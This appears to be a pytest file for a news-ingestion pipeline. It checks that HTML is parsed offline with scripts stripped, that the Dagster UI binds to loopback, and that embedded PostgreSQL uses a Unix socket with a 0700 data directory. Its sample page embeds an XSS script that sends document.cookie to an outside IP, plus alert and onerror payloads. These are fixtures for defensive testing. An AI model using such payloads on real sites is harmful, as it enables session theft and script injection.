"""HTML input is parsed without running or fetching anything (scripts, styles, images, iframes
and links are dropped, no socket connects), the Dagster UI binds to loopback only, and the
embedded PostgreSQL listens on a Unix socket only with a data directory of mode 0700."""

from __future__ import annotations

import socket
import stat
from pathlib import Path

import pytest

from dagster_project.ui import HOST, webserver_command
from etl.ingest import read_bytes

PAGE = b"""<!doctype html><html><head><title>Shelling in Kharkiv</title>
<meta name="date" content="2024-11-28">
<link rel="stylesheet" href="http://198.51.100.7/style.css">
<style>body { background: url(http://198.51.100.7/bg.png) } .x { color: red }</style>
<script>fetch("http://198.51.100.7/steal?c=" + document.cookie); alert("xss")</script>
<script src="http://198.51.100.7/tracker.js"></script>
</head><body><article><h1>Shelling in Kharkiv</h1>
<p>Russian forces shelled the northern suburbs of Kharkiv on Thursday, officials said.</p>
<img src="http://198.51.100.7/pixel.gif" onerror="alert(1)">
<iframe src="http://198.51.100.7/frame.html"></iframe>
<p>Two civilians were wounded in the attack, according to the regional governor.</p>
</article></body></html>"""


def test_html_is_parsed_offline_and_scripts_are_dropped(monkeypatch: pytest.MonkeyPatch) -> None:
    attempts: list[object] = []

    def refuse(self, address):  # any connection attempt is a failure of this test
        attempts.append(address)
        raise OSError("network access during HTML parsing")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket.socket, "connect_ex", refuse)
    monkeypatch.setattr(socket, "create_connection", lambda *a, **k: refuse(None, a))
    result = read_bytes(PAGE, "2024-11-28_kharkiv.html")
    assert attempts == []
    (article,) = result.articles
    assert "shelled the northern suburbs of Kharkiv" in article.text
    assert "Two civilians were wounded" in article.text
    for leftover in ("fetch(", "alert", "cookie", "background", "color: red", "198.51.100.7", "<"):
        assert leftover not in article.text, leftover


def test_dagster_ui_binds_to_loopback_only() -> None:
    command = webserver_command(3000)
    assert command[command.index("-h") + 1] == HOST == "127.0.0.1"


def test_embedded_server_listens_on_a_unix_socket_with_a_private_data_dir(tmp_path: Path) -> None:
    import psycopg

    from etl.load.database import embedded_url, stop_embedded

    data_dir = tmp_path / "pgdata"
    url = embedded_url(data_dir, database="postgres")
    try:
        assert stat.S_IMODE(data_dir.stat().st_mode) == 0o700
        libpq = url.replace("postgresql+psycopg", "postgresql")
        with psycopg.connect(libpq) as c:
            addresses = c.execute("SHOW listen_addresses").fetchone()[0]
        assert addresses == "", f"embedded server listens on TCP: {addresses!r}"
    finally:
        stop_embedded(data_dir)
